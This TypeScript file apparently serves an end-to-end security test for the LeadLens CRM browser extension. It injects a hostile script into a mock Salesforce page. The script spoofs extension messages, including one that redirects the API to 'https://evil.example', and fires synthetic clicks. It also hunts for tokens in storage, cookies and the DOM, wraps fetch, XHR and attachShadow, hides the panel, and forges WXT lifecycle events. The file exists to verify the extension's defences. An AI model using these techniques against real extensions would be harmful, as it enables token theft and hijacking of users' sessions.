// A look-alike record page whose own scripts misbehave, for tests/e2e/hostile-page.e2e.ts
// (the page must never read or drive the panel). Served on a real Salesforce record URL so the extension's real
// manifest match patterns apply: `?hostile=<attacks>` on /lightning/r/<Object>/<id>/view adds the
// script below to the normal page (app.ts, one hook). Attacks, comma-separated, or `all`:
//
//   spoof      window.postMessage of LeadLens' message shapes (leadlens:lead, logCall, setFollow,
//              saveConnection, ...) and fake `wxt:locationchange` events (the generic name, and
//              the extension's real, id-prefixed name once the page has learnt it)
//   clicks     synthetic (untrusted) clicks, submits and keys on the panel's Save call, Follow and
//              Mute through `host.shadowRoot` (null: the root is closed), and clicks on the host
//              itself and at the panel's place on screen
//   read       the panel's text, and a hunt for anything token-like in the document, the shadow
//              DOM, window's own properties, web storage, cookies and resource timings
//   override   window.fetch, XMLHttpRequest and history.pushState replaced by recording wrappers;
//              Element.prototype.attachShadow patched to force roots open and keep them
//   restyle    the panel host hidden: a stylesheet (`leadlens-panel { display:none !important }`),
//              inline !important styles and the `hidden` attribute
//   invalidate a forged WXT "content script started" event (id-prefixed name learnt from the
//              extension's own window.postMessage, or from `extId`: a store extension's id is
//              public), which makes a WXT content script stop itself
//
// Other parameters: lead (the record's lead id), other / otherName / otherPath (another lead, to
// spoof), extId (the extension's id, as an attacker would know it). The script reports on
// `window.__hostile` (main world), for the test to read. The page cannot see what the panel shows
// (closed root): the test, which can, sets `window.__hostileGo = true` once the panel shows the
// lead; the page then attacks and sets `done`. Like client-scripts.ts, a constant string.

export const HOSTILE_PARAM = 'hostile';

export const HOSTILE_JS = `(function () {
  var params = new URLSearchParams(location.search);
  var wanted = (params.get('${HOSTILE_PARAM}') || '').split(',');
  function on(name) { return wanted.indexOf('all') >= 0 || wanted.indexOf(name) >= 0; }
  var leadId = params.get('lead') || 'L-unknown';
  var otherId = params.get('other') || 'L-other';
  var otherName = params.get('otherName') || 'Someone Else';
  var otherPath = params.get('otherPath') || '/lightning/r/Lead/00Q000000000001AAA/view';
  var self = document.currentScript ? document.currentScript.outerHTML : '';
  var H = window.__hostile = {
    wanted: wanted, messages: [], fetches: [], xhrs: [], pushes: [], actions: [], errors: [],
    // A store extension's id is public (its Web Store URL): the test may hand it over as extId.
    extensionPrefix: params.get('extId') ? params.get('extId') + ':crm:' : null, learnedPrefix: null, found: {}, nameSeen: null, panelText: null, hostText: null, captured: [], spoofRounds: 0, hunt: null, done: false
  };
  function act(name, fn) {
    try { fn(); H.actions.push(name); } catch (e) { H.errors.push(name + ': ' + String(e)); }
  }
  function json(value) { try { return JSON.stringify(value); } catch (e) { return String(value); } }

  // Everything said in the page's hearing, and what it gives away.
  window.addEventListener('message', function (event) {
    var data = event.data;
    var text = typeof data === 'string' ? data : json(data);
    var own = text.indexOf('"__hostile":true') >= 0;
    H.messages.push({ own: own, origin: event.origin, data: text });
    var type = data && typeof data === 'object' && typeof data.type === 'string' ? data.type : '';
    var started = /^(.*:)wxt:content-script-started$/.exec(type);
    if (!own && started) H.extensionPrefix = H.learnedPrefix = started[1]; // "<extension id>:<entrypoint>:"
  });

  if (on('override')) {
    act('override fetch', function () {
      var realFetch = window.fetch;
      window.fetch = function (input, init) {
        var headers = init && init.headers ? json(init.headers) : '';
        H.fetches.push({ url: String(input && input.url ? input.url : input), headers: headers });
        return realFetch.apply(this, arguments);
      };
    });
    act('override XMLHttpRequest', function () {
      var open = XMLHttpRequest.prototype.open;
      var setHeader = XMLHttpRequest.prototype.setRequestHeader;
      XMLHttpRequest.prototype.open = function (method, url) { H.xhrs.push({ url: String(url) }); return open.apply(this, arguments); };
      XMLHttpRequest.prototype.setRequestHeader = function (name, value) { H.xhrs.push({ header: name + ': ' + value }); return setHeader.apply(this, arguments); };
    });
    act('override history.pushState', function () {
      var push = history.pushState;
      history.pushState = function (state, title, url) { H.pushes.push(String(url)); return push.apply(this, arguments); };
    });
    act('override attachShadow', function () {
      var attach = Element.prototype.attachShadow;
      Element.prototype.attachShadow = function (init) {
        var root = attach.call(this, Object.assign({}, init, { mode: 'open' }));
        H.captured.push(this.tagName.toLowerCase());
        return root;
      };
    });
  }

  function spoof() {
    var now = new Date().toISOString();
    var fake = { id: otherId, name: otherName + ' (spoofed)', score: 99, scoreChange24h: 99, band: 'hot', stage: 'lead', crmRefs: [], updatedAt: now };
    var sameId = { id: leadId, name: 'Spoofed name for the lead on screen', score: 1, scoreChange24h: 0, band: 'cold', stage: 'churn', crmRefs: [], updatedAt: now };
    var shapes = [
      { type: 'leadlens:lead', lead: fake, asOf: now, stale: false },
      { type: 'leadlens:lead', lead: sameId, asOf: now, stale: false },
      { type: 'leadlens:context', leadId: leadId, context: { followed: true, muted: true, timeline: [] } },
      { type: 'logCall', leadId: leadId, outcome: 'no_answer', note: 'logged by the page' },
      { type: 'setFollow', leadId: leadId, followed: true },
      { type: 'setMute', leadId: leadId, muted: true },
      { type: 'lookup', record: { crm: 'salesforce', objectType: 'Lead', recordId: otherPath.split('/')[4] || '' } },
      { type: 'saveConnection', apiUrl: 'https://evil.example', token: 'stolen' },
      { type: 'openOptions' }
    ];
    shapes.forEach(function (shape) {
      shape.__hostile = true;
      act('postMessage ' + shape.type, function () {
        window.postMessage(shape, '*');
        window.postMessage(JSON.stringify(shape), '*');
      });
    });
    var other = new URL(otherPath, location.href);
    act('fake wxt:locationchange', function () {
      var event = new Event('wxt:locationchange');
      event.newUrl = other; event.oldUrl = new URL(location.href);
      window.dispatchEvent(event);
      window.dispatchEvent(new CustomEvent('wxt:locationchange', { detail: { newUrl: other.href, oldUrl: location.href } }));
    });
    if (H.extensionPrefix) {
      act('fake ' + H.extensionPrefix + 'wxt:locationchange', function () {
        var event = new Event(H.extensionPrefix + 'wxt:locationchange');
        event.newUrl = other; event.oldUrl = new URL(location.href);
        window.dispatchEvent(event);
        window.dispatchEvent(new CustomEvent(H.extensionPrefix + 'wxt:locationchange', { detail: { newUrl: other.href } }));
      });
    }
  }

  function host() { return document.querySelector('leadlens-panel'); }
  function inPanel(selector) {
    var h = host();
    var root = h && h.shadowRoot;
    return root ? Array.prototype.slice.call(root.querySelectorAll(selector)) : [];
  }
  function button(label) {
    return inPanel('button').filter(function (b) { return b.textContent.trim() === label; })[0];
  }

  function clicks() {
    var radio = inPanel('input[type=radio][value=no_answer]')[0];
    var note = inPanel('textarea[name=note]')[0];
    var save = inPanel('form.log-call button[type=submit]')[0];
    var form = inPanel('form.log-call')[0];
    var follow = button('Follow') || button('フォローする');
    var mute = button('Mute alerts') || button('通知をミュート');
    H.found.radio = !!radio; H.found.save = !!save; H.found.follow = !!follow; H.found.mute = !!mute;
    act('choose an outcome', function () { radio.click(); });
    act('type a note', function () { note.value = 'logged by the page'; note.dispatchEvent(new Event('input', { bubbles: true })); });
    act('click Save call', function () { save.click(); });
    act('dispatch click on Save call', function () { save.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true })); });
    act('press Enter on Save call', function () { save.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true })); });
    act('requestSubmit', function () { form.requestSubmit(save); });
    act('dispatch submit', function () { form.dispatchEvent(new SubmitEvent('submit', { bubbles: true, cancelable: true, submitter: save })); });
    act('click Follow', function () { follow.click(); });
    act('dispatch pointer + click on Follow', function () {
      ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'].forEach(function (type) {
        var Ctor = type.indexOf('pointer') === 0 ? PointerEvent : MouseEvent;
        follow.dispatchEvent(new Ctor(type, { bubbles: true, cancelable: true, composed: true }));
      });
    });
    act('click Mute', function () { mute.click(); });
    act('click the host', function () {
      host().dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true }));
    });
    act("click what is at the panel's place", function () {
      var target = document.elementFromPoint(innerWidth - 150, 200);
      H.found.atPanelPlace = target ? target.tagName.toLowerCase() : null;
      ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'].forEach(function (type) {
        var Ctor = type.indexOf('pointer') === 0 ? PointerEvent : MouseEvent;
        target.dispatchEvent(new Ctor(type, { bubbles: true, cancelable: true, composed: true, clientX: innerWidth - 150, clientY: 200 }));
      });
    });
    act('press Enter and Space on the host', function () {
      ['Enter', ' '].forEach(function (key) { host().dispatchEvent(new KeyboardEvent('keydown', { key: key, bubbles: true, composed: true })); });
    });
  }

  function read() {
    var h = host();
    var root = h && h.shadowRoot;
    H.found.shadowRootOpen = !!root;
    var body = root && root.querySelector('body');
    H.panelText = body ? body.innerText : null;
    // Without the root: what the host element and the document's own text give away.
    H.hostText = h ? h.innerText + ' ' + h.textContent + ' ' + h.innerHTML : null;
    var props = {};
    Object.keys(window).forEach(function (key) {
      if (key === '__hostile') return;
      try { props[key] = json(window[key]); } catch (e) { props[key] = 'unreadable'; }
    });
    var resources = performance.getEntriesByType('resource').map(function (e) { return e.name; });
    var haystack = [
      document.documentElement.outerHTML.replace(self, ''), root ? root.innerHTML : '', json(props), json(localStorage), json(sessionStorage),
      document.cookie, resources.join(' '), json(H.messages.filter(function (m) { return !m.own; }))
    ].join(' ');
    var hits = haystack.match(/bearer\\s+\\S+|authorization|api[-_ ]?token|"token"\\s*:/gi) || [];
    H.hunt = {
      hits: hits, length: haystack.length, resources: resources,
      chromeRuntime: typeof (window.chrome && window.chrome.runtime),
      browserGlobal: typeof window.browser
    };
  }

  function restyle() {
    var h = host();
    act('stylesheet hides the host', function () {
      var style = document.createElement('style');
      style.textContent = 'leadlens-panel { display: none !important; visibility: hidden !important; opacity: 0 !important; }' +
        ' body > leadlens-panel, html leadlens-panel { display: none !important; transform: translateX(200vw) !important; clip-path: inset(50%) !important; }';
      document.head.appendChild(style);
    });
    act('inline styles hide the host', function () {
      h.style.cssText = 'display: none !important; visibility: hidden !important; opacity: 0 !important; position: fixed !important;' +
        ' left: -10000px !important; width: 0 !important; height: 0 !important; overflow: hidden !important;' +
        ' transform: scale(0) !important; pointer-events: none !important; z-index: -1 !important';
    });
    act('hidden attribute on the host', function () { h.hidden = true; });
  }

  function invalidate() {
    if (!H.extensionPrefix) { H.errors.push('invalidate: the extension id never showed'); return; }
    act('forged content-script-started', function () {
      document.dispatchEvent(new CustomEvent(H.extensionPrefix + 'wxt:content-script-started', {
        detail: { contentScriptName: 'crm', messageId: 'hostile-page' }
      }));
    });
  }

  // At load: spoof on a timer, whether or not the panel is there yet.
  if (on('spoof')) {
    var rounds = 0;
    var timer = setInterval(function () { spoof(); H.spoofRounds = ++rounds; if (rounds >= 12) clearInterval(timer); }, 250);
  }

  // Once the test says the panel shows the lead (the page itself cannot tell): attack, then say so.
  var waited = 0;
  var poll = setInterval(function () {
    if (!host() || window.__hostileGo !== true) { if (++waited > 300) { clearInterval(poll); H.errors.push('the panel never showed'); H.done = true; } return; }
    clearInterval(poll);
    var name = inPanel('[data-testid=lead-name]')[0];
    H.nameSeen = name ? name.textContent : null;
    H.found.host = true;
    if (on('spoof')) spoof();
    if (on('clicks')) clicks();
    if (on('read')) read();
    if (on('restyle')) restyle();
    if (on('invalidate')) invalidate();
    H.done = true;
  }, 100);
})();`;

/** Is this request for the hostile variant of a record page? */
export function wantsHostile(url: URL): boolean {
  return url.searchParams.has(HOSTILE_PARAM);
}

/** The page with the hostile script added at the end of <body>, under the page's CSP nonce. */
export function withHostileScript(html: string, nonce: string | undefined): string {
  const script = `<script${nonce === undefined ? '' : ` nonce="${nonce}"`}>${HOSTILE_JS}</script>`;
  const at = html.lastIndexOf('</body>');
  return at < 0 ? html + script : `${html.slice(0, at)}${script}\n${html.slice(at)}`;
}
